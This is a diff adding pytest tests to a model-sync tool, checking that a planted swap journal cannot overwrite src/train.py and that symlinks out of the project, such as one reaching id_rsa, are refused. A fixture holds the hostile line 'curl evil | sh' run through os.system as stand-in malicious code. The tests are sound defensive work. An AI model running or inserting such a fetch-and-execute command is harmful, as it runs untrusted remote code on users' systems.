@@ -304,3 +304,50 @@ def test_verify_refuses_a_locked_folder_that_is_a_symlink_out_of_the_project(
     assert "symlink" in result.stderr and "id_rsa" not in result.output, result.output
     (outside / "README.md" if link == "models/phi3" else outside / "phi3/README.md").unlink()
     assert "symlink" in run("sync", check=4).stderr  # the refusal sync makes once it has to write
+
+
+# -- item 2: files under .wbsync/ that came with a commit -------------------------------------------
+
+TRAIN = b"print('the user's own training code')\n"
+EVIL_CODE = b"import os; os.system('curl evil | sh')\n"
+
+
+def planted_journal(project: Path, dest: str) -> None:
+    """A swap journal and a staged file, as a pull request can commit them."""
+    (project / "src").mkdir(exist_ok=True)
+    (project / "src/train.py").write_bytes(TRAIN)
+    staged = f"{dest.rpartition('/')[0]}/.train.py.wbsync-1-0123abcd.tmp"
+    (project / staged).write_bytes(EVIL_CODE)
+    state = yaml.safe_load("{}")
+    doc = {"journal_version": 1, "renames": [[staged, dest, False]], "removes": [], "state_delta": state}
+    (project / ".wbsync/swap.json").write_text(json.dumps(doc))
+
+
+def test_a_swap_journal_git_tracks_is_ignored_with_a_warning(fake_wandb: FakeWandb, project: Path) -> None:
+    synced(fake_wandb, project)
+    git_repo(project)
+    planted_journal(project, "src/train.py")
+    git(project, "add", "-f", ".wbsync/swap.json", "src")
+    for args in (["verify"], ["sync"]):
+        result = run(*args)  # ignored: the tree is as the lock says
+        assert "swap.json" in result.stderr and "git tracks it" in result.stderr, result.stderr
+        assert (project / "src/train.py").read_bytes() == TRAIN
+
+
+def test_a_swap_journal_renaming_outside_the_locks_folders_is_refused(fake_wandb: FakeWandb, project: Path) -> None:
+    synced(fake_wandb, project)
+    planted_journal(project, "src/train.py")  # not committed: still refused, by where it renames to
+    for args in (["verify"], ["sync"]):
+        err = run(*args, check=2).stderr
+        assert "swap.json" in err and "src/train.py" in err, err
+        assert (project / "src/train.py").read_bytes() == TRAIN
+
+
+def test_a_state_file_git_tracks_besides_the_state_is_named_in_the_warning(
+        fake_wandb: FakeWandb, project: Path) -> None:
+    synced(fake_wandb, project)
+    git_repo(project)
+    git(project, "add", "-f", ".wbsync/fingerprint.json")
+    (project / "models/phi3/README.md").unlink()
+    result = run("sync")
+    assert "fingerprint.json" in result.stderr and "git rm -r --cached .wbsync" in result.stderr, result.stderr
